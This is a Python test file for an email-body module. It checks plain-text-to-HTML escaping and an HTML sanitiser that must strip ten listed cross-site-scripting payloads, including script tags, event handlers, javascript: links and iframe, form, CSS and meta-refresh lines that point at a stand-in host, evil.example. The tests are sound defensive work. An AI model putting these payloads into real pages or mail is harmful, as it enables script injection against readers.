import pytest

from autocapture.core.body import as_html, sanitised


def test_plain_text_becomes_html_line_by_line():
    assert as_html("1 < 2\nAnna & Kim", "text") == "1 &lt; 2<br>Anna &amp; Kim"


def test_html_stays_html():
    assert as_html("<p>Hi</p>", "html") == "<p>Hi</p>"


def test_inline_images_keep_their_content_id():
    assert 'src="cid:logo"' in sanitised('<img src="cid:logo">')


def test_what_a_mail_looks_like_stays():
    assert sanitised('<p style="color: red">Hi</p>') == '<p style="color:red">Hi</p>'


@pytest.mark.parametrize(
    "attack",
    [
        "<script>fire()</script>",
        '<img src=x onerror="fire()">',
        '<a href="javascript:fire()">x</a>',
        '<iframe src="https://evil.example/fire()"></iframe>',
        '<form action="https://evil.example/fire()"><input></form>',
        '<svg onload="fire()">',
        '<div style="background:url(https://evil.example/fire())">x</div>',
        '<meta http-equiv=refresh content="0;url=https://evil.example/fire()">',
        "<style>@import 'https://evil.example/fire()'</style>",
        '<base href="https://evil.example/fire()">',
    ],
)
def test_nothing_that_runs_frames_or_posts_survives(attack):
    assert "fire" not in sanitised(attack)


@pytest.mark.parametrize("element", ["title", "style", "script", "template", "iframe", "noframes", "noembed"])
def test_words_that_no_mail_program_shows_do_not_come_into_the_body(element):
    assert sanitised(f"<{element}>Hidden</{element}><p>Seen</p>") == "<p>Seen</p>"
